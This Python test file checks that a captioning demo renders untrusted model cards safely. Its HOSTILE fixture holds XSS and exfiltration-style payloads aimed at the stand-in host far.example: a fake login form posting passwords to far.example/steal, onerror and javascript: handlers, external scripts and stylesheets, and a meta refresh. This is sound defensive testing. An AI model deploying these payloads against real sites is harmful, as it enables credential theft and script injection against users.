"""A stranger's model card on the page: whatever it holds, it is shown, and nothing in it is run, sent or fetched."""

import shutil
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Page, expect

from hf_captioner import ImageCaptioner
from hf_captioner.demo.card_view import LONGEST, card_html, without_header
from hf_captioner.demo.markup import about
from tests.demo.browsing import needs_browser, open_tab, panel
from tests.demo.serving import Server, demo

HOSTILE = """# Birds

A <b>card</b> of **mine**, [its site](https://far.example/site) and <https://far.example/auto>.

![pixel](https://far.example/pixel.png) and ![other][ref] and [![linked](//far.example/a.svg)](https://far.example)

[ref]: http://far.example/ref.png "title"

<form action="https://far.example/steal"><input name="password" autofocus><button>Log in</button></form>
<img src="https://far.example/img.png" onerror="alert(1)"><script src="https://far.example/x.js"></script>
<link rel="stylesheet" href="https://far.example/x.css"><style>@import "https://far.example/y.css";</style>
<iframe src="https://far.example"></iframe><video poster="https://far.example/p.png"></video>
<meta http-equiv="refresh" content="0; url=https://far.example"><svg><image href="https://far.example/i.png"/></svg>
<div style="background: url(https://far.example/b.png)">x</div> <base href="https://far.example/">

[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)

| a | b |
|---|---|
| ![cell](https://far.example/cell.png) | `<img src=https://far.example/code.png>` |

```mermaid
flowchart TD
    A@{ img: "https://far.example/mermaid.png" }
```

$$\\includegraphics{https://far.example/latex.png} \\href{javascript:alert(1)}{x}$$

${alert(1)} {{value}} `${alert(2)}`
"""
HARMLESS = set("a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre strong table tbody td th thead tr ul".split())
CARDS = [
    "",
    "\n",
    "no header",
    "---",
    "---\n",
    "---\n: [\n---\nx",
    "---\nlanguage: en\n---\n",
    "---\na: 1\n",
    "\t",
    "\0",
]


class Elements(HTMLParser):
    """What a browser would make of HTML: its elements and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in HARMLESS
        expected = {"a": {"href", "title", "rel", "target"}, "code": {"class"}, "ol": {"start"}}.get(tag, {"style"})
        assert set(attributes) <= expected
        assert attributes.get("style") in (None, "text-align:left", "text-align:right", "text-align:center")
        assert not (attributes.get("href") or "").lower().lstrip().startswith(("javascript:", "data:", "vbscript:"))


def test_a_card_becomes_text_tables_and_links_only() -> None:
    html = card_html(HOSTILE)
    assert_harmless(html)
    assert "<h1>Birds</h1>" in html and "<strong>mine</strong>" in html and "[image: pixel]" in html
    assert 'href="https://far.example/site"' in html and "&lt;form action=" in html and "<td>[image: cell]</td>" in html


@settings(deadline=None, max_examples=300)
@given(
    st.lists(st.one_of(st.sampled_from(HOSTILE.split()), st.sampled_from(list("<>![]()`*_|\n\\&;#'\":")), st.text()))
)
def test_whatever_stands_in_a_card_it_is_harmless(parts: list[str]) -> None:
    for text in ("".join(parts), " ".join(parts), "\n".join(parts)):
        assert_harmless(card_html(without_header(text)))


@pytest.mark.parametrize("card", CARDS)
def test_a_card_without_a_header_or_with_a_broken_one_is_shown(tiny_captioner: ImageCaptioner, card: str) -> None:
    tiny_captioner.card = card
    assert isinstance(card_html(about(tiny_captioner)), str)
    assert tiny_captioner.description.config == tiny_captioner.config


@pytest.mark.parametrize(
    ("card", "shown"),
    [("---\r\na: 1\r\n---\r\n# Mine", "# Mine"), ("---\n: [\n---\nx", "x"), ("a\n---\nb", "a\n---\nb")],
)
def test_only_a_header_is_left_out(card: str, shown: str) -> None:
    assert without_header(card) == shown


@pytest.mark.parametrize("part", ["[", "*a ", "`a", "<", "> ", "![a](", "- ", "|a", "_*", "<!--", "---\n", "\n---"])
def test_a_card_that_is_hard_to_read_is_read_in_time(part: str) -> None:
    began = time.process_time()
    html = card_html(without_header(part * ((1 << 20) // len(part))))
    assert time.process_time() - began < 10 and len(html) < 60 * LONGEST


@pytest.fixture(scope="module")
def server(checkpoint: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copytree(checkpoint, folder / "birds")
    (folder / "birds" / "README.md").write_text(HOSTILE)
    with demo(folder / "birds", folder) as server:
        yield server


@needs_browser
def test_nothing_of_a_hostile_card_reaches_the_browser(page: Page, server: Server) -> None:
    """Beside what the fixture looks at: no dialog, no error, no request to another host."""
    open_tab(page, "About")
    card = panel(page, "About").locator(".model-card")
    expect(card.get_by_role("heading", name="Birds")).to_be_visible()
    expect(card.get_by_text("[image: pixel]")).to_be_visible()
    for name in "form input button img image script link style iframe video base svg".split():
        expect(card.locator(name)).to_have_count(0)
    expect(card).to_contain_text("${alert(1)} {{value}} ${alert(2)}")
    assert "far.example" not in server.hosts
